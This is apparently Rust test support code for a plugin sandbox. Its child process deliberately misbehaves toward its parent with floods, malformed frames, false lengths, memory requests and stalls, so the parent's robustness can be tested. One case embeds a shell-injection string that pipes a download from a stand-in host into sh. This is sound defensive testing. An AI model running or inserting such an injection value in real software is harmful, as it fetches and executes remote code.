//! The child process, which misbehaves as an item, the arguments for `init` or the plugin's name requests.

use std::fs::File;
use std::io;
use std::os::unix::fs::FileExt;
use std::thread;
use std::time::Duration;

use crate::wire::{self, ParentSocket, Task, guest, refusal};

/// Misbehaves as requested, until the parent kills this process.
pub(crate) fn misbehave() {
    // A parent that has given up closes its end of the socket.
    let _ = serve();
}

fn serve() -> io::Result<()> {
    let mut line = ParentSocket::of_standard_input()?;
    let files = line.files()?;
    let (task, init) = line.task()?;
    match task {
        Task::Compile(compile) => be_compiler(line, &compile.path.to_string_lossy()),
        Task::Work => be_worker(line, &files, &init),
        Task::Probe => Ok(()),
    }
}

fn stay() -> io::Result<()> {
    loop {
        thread::park();
    }
}

#[expect(clippy::disallowed_methods, reason = "this misdeed is slow on purpose")]
fn pause() {
    thread::sleep(Duration::from_millis(1));
}

// ---------------------------------------------------------------- a worker

fn be_worker(mut line: ParentSocket, files: &[File], init: &[u8]) -> io::Result<()> {
    if init == b"floods before it is ready" {
        return line.flood(wire::GUEST, &guest::output("x"));
    }
    line.send(wire::READY, b"")?;
    if init == b"floods before it has started" {
        return line.flood(wire::GUEST, &guest::output("x"));
    }
    line.send(wire::STARTED, &[0, 0])?;
    loop {
        let order = line.receive()?;
        let item = wire::item(&order);
        let Some(deed) = item.strip_prefix(b"!") else {
            line.send(wire::RAN, &wire::ran(1, &[&item.to_ascii_uppercase()]))?;
            continue;
        };
        // Without this, the parent would believe that the process died while it was idle.
        if let Some(page) = files.first() {
            page.write_all_at(&1_u32.to_ne_bytes(), BEGUN)?;
        }
        match deed {
            b"closes" => {
                line.close()?;
                return stay();
            }
            b"stops reading" => {
                line.send(wire::RAN, &wire::ran(1, &[b"done"]))?;
                return stay();
            }
            b"lies" => lie(files)?,
            deed => misdeed(&mut line, deed)?,
        }
        line.send(wire::RAN, &wire::ran(1, &[b"done"]))?;
    }
}

/// The offset in the page at which a child reports that it has begun.
const BEGUN: u64 = 8;

/// Writes random progress into the page for a while, and then does nothing.
fn lie(files: &[File]) -> io::Result<()> {
    let page = files.first().ok_or(io::ErrorKind::NotFound)?;
    let mut word = 1_u64;
    for _ in 0..200_000 {
        word = word.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        page.write_all_at(&word.to_ne_bytes(), 0)?;
    }
    stay()
}

/// Performs a misdeed. Some misdeeds end, and then the item has its record.
fn misdeed(line: &mut ParentSocket, deed: &[u8]) -> io::Result<()> {
    let large = "x".repeat(200 * 1024);
    match deed {
        b"is silent" => stay(),
        b"half a frame" => {
            line.send_header(wire::RAN, 1000)?;
            line.raw(&[0; 500])?;
            stay()
        }
        b"half a head" => {
            line.raw(&[0, 0])?;
            stay()
        }
        b"byte by byte" => {
            line.send_header(wire::RAN, 1_000_000)?;
            loop {
                line.raw(&[0])?;
                pause();
            }
        }
        b"floods small output" => line.flood(wire::GUEST, &guest::output("x")),
        b"floods large output" => line.flood(wire::GUEST, &guest::output(&large)),
        b"floods logs" => line.flood(wire::GUEST, &guest::log(&large)),
        b"floods drops" => line.flood(wire::GUEST, &guest::dropped(u64::MAX, u64::MAX)),
        b"says too much at once" => line.send(wire::GUEST, &guest::log(&"x".repeat(300 * 1024))),
        b"claims a length" => {
            line.raw(&[0xFF, 0xFF, 0xFF, 0xFF, wire::RAN])?;
            stay()
        }
        b"claims a count" => line.send(wire::RAN, &wire::ran(u32::MAX, &[b"x"])),
        b"says more than it was sent" => line.send(wire::RAN, &wire::ran(2, &[b"x", b"y"])),
        b"has a large result" => line.send_header(wire::RAN, 80 << 20).and_then(|()| stay()),
        b"calls nothing" => line.send(wire::CALL, &7_u32.to_le_bytes()),
        b"takes all memory" => {
            for _ in 0..1000 {
                line.send(wire::TAKE, &u64::MAX.to_le_bytes())?;
                line.receive()?;
            }
            Ok(())
        }
        b"is denied much" => {
            for number in 0..1000 {
                let name = format!("{number}{}", "x".repeat(200 * 1024));
                line.send(wire::GUEST, &guest::denied_name(&name))?;
            }
            Ok(())
        }
        b"is denied a command" => {
            // A user might copy this text into a shell.
            let host = "`; curl evil.example | sh; `";
            line.send(wire::GUEST, &guest::denied_request(host, 1))
        }
        b"nests" => line.send(wire::GUEST, "[".repeat(200 * 1024).as_bytes()),
        _ => Ok(()),
    }
}

// ---------------------------------------------------------------- a compiler

fn be_compiler(mut line: ParentSocket, deed: &str) -> io::Result<()> {
    const HUGE: usize = 250 << 20;
    if deed == "says much before it is ready" {
        return line.send(wire::READY, &vec![b'x'; HUGE]);
    }
    line.send(wire::READY, b"")?;
    match deed {
        "says much of code" => line.send(wire::COMPILED, &vec![b' '; HUGE]),
        "says much of a refusal" => line.send(wire::NOT_COMPILED, &vec![b'['; HUGE]),
        "has many causes" => line.send(wire::NOT_COMPILED, &refusal::invalid("", 20_000)),
        "has long causes" => {
            line.send(wire::NOT_COMPILED, &refusal::invalid(&"x".repeat(30_000), 2))
        }
        "finds much" => line.send(wire::INSPECTED, &vec![b'['; HUGE]),
        "finds many exports" => line.send(wire::INSPECTED, &wire::found(500_000, None)),
        "finds a long refusal" => {
            let refusal = refusal::not_wasm(&"x".repeat(3_000_000));
            line.send(wire::INSPECTED, &wire::found(1, Some(refusal)))
        }
        "has all code" => {
            // The kind of plugin, and its other metadata.
            let metadata = (0_u8, [false; 4]);
            line.send(wire::COMPILED, &wire::value(&(metadata, u64::MAX)))
        }
        "floods logs" => line.flood(wire::GUEST, &guest::log("x")),
        "half a frame" => {
            line.send_header(wire::COMPILED, 1000)?;
            stay()
        }
        "closes" => {
            line.close()?;
            stay()
        }
        _ => Ok(()),
    }?;
    stay()
}
